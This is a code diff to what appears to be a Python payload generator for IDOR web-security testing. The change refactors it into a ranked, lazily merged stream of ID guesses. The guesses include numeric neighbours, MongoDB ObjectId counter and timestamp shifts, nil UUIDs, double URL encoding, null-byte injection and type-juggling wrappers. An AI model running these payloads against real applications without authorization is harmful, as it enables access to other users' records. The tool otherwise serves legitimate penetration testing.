@@ -5,11 +5,15 @@ Purpose: Generate intelligent, context-aware, high-signal IDOR payloads.
 """
 import uuid
 import base64
+import heapq
 import time
-from typing import List, Optional, Set
+from functools import lru_cache
+from itertools import islice
+from typing import Dict, Iterable, Iterator, List, NamedTuple, Optional, Set, Tuple
 from pathlib import Path
 from urllib.parse import quote, quote_plus
 from core import logger
+from core.wordlist import Wordlist
 
 # Payload directory relative to project root
 PAYLOAD_DIR = Path(__file__).resolve().parents[1] / "payloads"
@@ -26,8 +30,7 @@ def load_payloads_from_file(filename: str) -> Set[str]:
     if not path.exists():
         return set()
     try:
-        lines = path.read_text(encoding="utf-8").splitlines()
-        return {line.strip() for line in lines if line.strip() and not line.startswith("#")}
+        return set(Wordlist(path))
     except Exception:
         return set()
 
@@ -48,139 +51,202 @@ def is_mongodb_objectid(value: str) -> bool:
     except ValueError:
         return False
 
-def generate_numeric_variations(original: int) -> Set[str]:
-    """Smart proximity and boundary testing."""
-    payloads = set()
-    # Nearby values (The classic IDOR)
-    for offset in range(-20, 21):
-        if offset == 0: continue
-        candidate = original + offset
-        if candidate >= 0:
-            payloads.add(str(candidate))
-    
-    # Common boundaries
-    payloads.update(["0", "1", "100", "1000", "999999", "2147483647"])
-    return payloads
+# ———— Strategy scores (The Pecking Order) ————
+# Higher goes first. Inside a strategy each payload scores a little less than the
+# one before it, so a far neighbour can drop below the next strategy's best.
+# Pass your own dict to iter_id_payloads(scores=...) to re-rank a campaign.
+STRATEGY_SCORES: Dict[str, float] = {
+    "neighbours": 100.0,      # ±1, ±2 ... of the observed ID (numeric or ObjectId)
+    "boundaries": 75.0,       # 0, 1, INT_MAX ...
+    "case": 70.0,             # ALICE / alice
+    "generic_numeric": 60.0,  # 1-20, -1, 1337 ... (leads when no ID was observed)
+    "uuid": 55.0,             # nil / all-ones UUIDs
+    "admin_like": 50.0,
+    "type_juggling": 40.0,
+    "encodings": 30.0,
+    "traversal": 20.0,
+}
+STEP = 1.0   # Score lost per rank inside a strategy
 
-def generate_mongodb_variations(original: str) -> Set[str]:
+NUMERIC_BOUNDARIES = ["0", "1", "100", "1000", "999999", "2147483647"]
+
+class Guess(NamedTuple):
+    payload: str
+    strategy: str
+    score: float
+
+def iter_numeric_neighbours(original: int, radius: int = 20) -> Iterator[str]:
+    """Nearest first: +1, -1, +2, -2 ... (never below zero)."""
+    for distance in range(1, radius + 1):
+        for candidate in (original + distance, original - distance):
+            if candidate >= 0:
+                yield str(candidate)
+
+def iter_mongodb_counter(original: str, radius: int = 50) -> Iterator[str]:
     """
     MongoDB ObjectId Hacking.
     Structure: 4-byte timestamp + 5-byte random + 3-byte counter.
-    Strategy: We slightly modify the timestamp and the counter to find users created near us.
+    Increment/Decrement the last 6 chars (Counter): users created in the exact same second/process.
     """
-    payloads = set()
+    prefix, counter = original[:18], int(original[18:], 16)
+    for distance in range(1, radius + 1):
+        for value in (counter + distance, counter - distance):
+            if 0 <= value < 1 << 24:
+                yield prefix + format(value, "06x")
+
+def iter_mongodb_timestamp(original: str, radius: int = 10) -> Iterator[str]:
+    """Increment/Decrement the Timestamp (first 8 chars): users created seconds before/after us."""
+    timestamp, suffix = int(original[:8], 16), original[8:]
+    for distance in range(1, radius + 1):
+        for value in (timestamp + distance, timestamp - distance):
+            if 0 <= value < 1 << 32:
+                yield format(value, "08x") + suffix
+
+def generate_numeric_variations(original: int) -> Set[str]:
+    """Smart proximity and boundary testing."""
+    return set(iter_numeric_neighbours(original)) | set(NUMERIC_BOUNDARIES)
+
+def generate_mongodb_variations(original: str) -> Set[str]:
+    """Counter ±50 and timestamp ±10 around an ObjectId."""
     try:
-        # Increment/Decrement the last 6 chars (Counter)
-        # This finds users created in the exact same second/process
-        prefix = original[:18]
-        suffix_int = int(original[18:], 16)
-        
-        for i in range(-50, 51):
-            if i == 0: continue
-            new_suffix = hex(suffix_int + i)[2:].zfill(6)
-            payloads.add(prefix + new_suffix)
-
-        # Increment/Decrement the Timestamp (first 8 chars)
-        # This finds users created seconds before/after us
-        timestamp_int = int(original[:8], 16)
-        suffix = original[8:]
-        for i in range(-10, 11):
-            if i == 0: continue
-            new_time = hex(timestamp_int + i)[2:].zfill(8)
-            payloads.add(new_time + suffix)
-            
-    except Exception:
-        pass
-    return payloads
+        return set(iter_mongodb_counter(original)) | set(iter_mongodb_timestamp(original))
+    except ValueError:
+        return set()
 
-def generate_uuid_variations() -> Set[str]:
+def generate_uuid_variations() -> List[str]:
     """Static UUID guesses (Low probability of success)."""
-    return {
+    return [
         "00000000-0000-0000-0000-000000000000",
+        str(uuid.UUID(int=1)),
         "11111111-1111-1111-1111-111111111111",
-        str(uuid.UUID(int=1)), 
-    }
+    ]
 
-def generate_encoding_variations(value: str) -> Set[str]:
+def generate_encoding_variations(value: str) -> List[str]:
     """URL encoding and bypasses."""
-    return {
+    return [
         quote(value),
         quote_plus(value),
         quote(quote(value)), # Double URL encode
         f"{value}%00",       # Null byte injection
-    }
+    ]
 
-def generate_type_juggling_variations(value: str) -> Set[str]:
+def generate_type_juggling_variations(value: str) -> List[str]:
     """
     Loose comparison and parser confusion.
     Corrected JSON syntax!
     """
-    return {
+    return [
         f"{value}[]",           # PHP/Rails array confusion
         f"[{value}]",           # JSON array wrapper
         f'{{"id":"{value}"}}',  # JSON object wrapper (Fixed quotes!)
         f'{{"id":{value}}}',    # JSON int wrapper (Only if value is numeric)
         f"{value}.json",        # Extension appending
         f"{value}%20",          # Space padding
-    }
+    ]
 
-def generate_id_payloads(
-    original_value: Optional[str] = None,
-    max_payloads: Optional[int] = 500
-) -> List[str]:
-    """Generate high-signal payloads."""
-    all_payloads: Set[str] = set()
+def _scored(strategy: str, payloads: Iterable[str], scores: Dict[str, float],
+            step: float = STEP, offset: float = 0.0) -> Iterator[Tuple[float, str, str]]:
+    """
+    One strategy stream as (-score, payload, strategy), best first. Plain tuples, so
+    the heap compares them in C. Fixed lists are scored up front (a handful of
+    tuples); the wide generators (neighbours) stay lazy.
+    """
+    base = scores.get(strategy, 0.0) - offset
+    if isinstance(payloads, (list, tuple)):
+        return iter([(rank * step - base, payload, strategy) for rank, payload in enumerate(payloads)])
+    return ((rank * step - base, payload, strategy) for rank, payload in enumerate(payloads))
 
-    # 1. Universal payloads
-    for payload_set in COMMON_PAYLOADS.values():
-        all_payloads.update(payload_set)
-
-    # 2. Context-Aware Generation
-    if original_value:
-        orig = original_value.strip()
+def strategy_streams(original_value: Optional[str] = None,
+                     scores: Optional[Dict[str, float]] = None) -> List[Iterator[Tuple[float, str, str]]]:
+    """Every strategy that applies to this value, as a lazy stream. Nothing is generated yet."""
+    custom = bool(scores)
+    scores = {**STRATEGY_SCORES, **scores} if custom else STRATEGY_SCORES
+    streams: List[Iterator[Tuple[float, str, str]]] = []
+    orig = original_value.strip() if original_value else ""
 
+    if orig:
         # A. Numeric ID
         if orig.isdigit():
-            try:
-                base_int = int(orig)
-                all_payloads.update(generate_numeric_variations(base_int))
-                # Add JSON int format for numeric IDs
-                all_payloads.add(f'{{"id":{orig}}}') 
-            except ValueError:
-                pass
-
-        # B. MongoDB ObjectId (New Feature!)
+            # Two candidates per distance, so the score falls per distance, not per payload
+            streams.append(_scored("neighbours", iter_numeric_neighbours(int(orig)), scores, step=STEP / 2))
+            streams.append(_scored("boundaries", NUMERIC_BOUNDARIES, scores))
+
+        # B. MongoDB ObjectId: counter neighbours lead, timestamp ones a notch behind
         elif is_mongodb_objectid(orig):
-            all_payloads.update(generate_mongodb_variations(orig))
+            streams.append(_scored("neighbours", iter_mongodb_counter(orig), scores, step=STEP / 4))
+            streams.append(_scored("neighbours", iter_mongodb_timestamp(orig), scores, step=STEP, offset=STEP))
 
         # C. UUID
         elif is_uuid(orig):
-            all_payloads.update(generate_uuid_variations())
+            streams.append(_scored("uuid", generate_uuid_variations(), scores))
 
         # D. Generic String
         else:
-            all_payloads.add(orig.upper())
-            all_payloads.add(orig.lower())
+            streams.append(_scored("case", [orig.upper(), orig.lower()], scores))
 
-        # 3. Bypasses (Applied to everything)
-        all_payloads.update(generate_encoding_variations(orig))
-        all_payloads.update(generate_type_juggling_variations(orig))
+        # Bypasses (Applied to everything)
+        streams.append(_scored("type_juggling", generate_type_juggling_variations(orig), scores))
+        streams.append(_scored("encodings", generate_encoding_variations(orig), scores))
 
+    # Universal payloads (the blind fallback when nothing was observed)
+    if custom:
+        streams += [_scored(name, payloads, scores) for name, payloads in COMMON_PAYLOADS.items()]
     else:
-        # Blind fallback
-        all_payloads.update(COMMON_PAYLOADS["generic_numeric"])
+        streams += [iter(scored) for scored in _common_scored()]
+    return streams
 
-    # Cleanup
+@lru_cache(maxsize=1)
+def _common_scored() -> Tuple[List[Tuple[float, str, str]], ...]:
+    """The universal streams never change under the default scores: score them once."""
+    return tuple(list(_scored(name, payloads, STRATEGY_SCORES)) for name, payloads in COMMON_PAYLOADS.items())
+
+def _merged(original_value: Optional[str], scores: Optional[Dict[str, float]],
+            min_score: Optional[float] = None) -> Iterator[Tuple[float, str, str]]:
+    """heapq.merge, inlined, with the lazy dedup folded in: one generator frame per guess."""
+    seen: Set[str] = set()
     if original_value:
-        all_payloads.discard(original_value.strip())
-    
-    # Sort: Shortest -> Numeric -> Alphanumeric
-    payload_list = list(all_payloads)
-    payload_list.sort(key=lambda x: (len(x), not x.isdigit(), x))
+        seen.add(original_value.strip())
+    ceiling = float("inf") if min_score is None else -min_score
 
-    if max_payloads:
-        payload_list = payload_list[:max_payloads]
+    heap = []
+    for order, stream in enumerate(strategy_streams(original_value, scores)):
+        first = next(stream, None)
+        if first is not None:
+            heap.append((first[0], order, first[1], first[2], stream))
+    heapq.heapify(heap)
+    while heap:
+        negative, order, payload, strategy, stream = heap[0]
+        if negative > ceiling:
+            return
+        following = next(stream, None)
+        if following is None:
+            heapq.heappop(heap)
+        else:
+            heapq.heapreplace(heap, (following[0], order, following[1], following[2], stream))
+        if payload not in seen:
+            seen.add(payload)
+            yield negative, payload, strategy
 
+def iter_id_payloads(
+    original_value: Optional[str] = None,
+    scores: Optional[Dict[str, float]] = None,
+    min_score: Optional[float] = None
+) -> Iterator[Guess]:
+    """
+    Guesses in priority order, generated on demand: the strategy streams are
+    heap-merged on score and deduplicated as they go, so taking the top 50 only
+    ever builds ~50 payloads. Stop iterating (hit, budget) and the rest never exists.
+    min_score: stop once the best remaining guess scores below it.
+    """
+    for negative, payload, strategy in _merged(original_value, scores, min_score):
+        yield Guess(payload, strategy, -negative)
+
+def generate_id_payloads(
+    original_value: Optional[str] = None,
+    max_payloads: Optional[int] = 500
+) -> List[str]:
+    """Generate high-signal payloads, best first (the eager view of iter_id_payloads)."""
+    payload_list = [payload for _, payload, _ in islice(_merged(original_value, None), max_payloads or None)]
     logger.debug(f"Generated {len(payload_list)} payloads.")
     return payload_list
 
@@ -188,4 +254,4 @@ if __name__ == "__main__":
     # Test MongoDB
     print("MongoDB:", generate_id_payloads("507f1f77bcf86cd799439011")[:5])
     # Test Numeric
-    print("Numeric:", generate_id_payloads("100")[:5])
\ No newline at end of file
+    print("Numeric:", generate_id_payloads("100")[:5])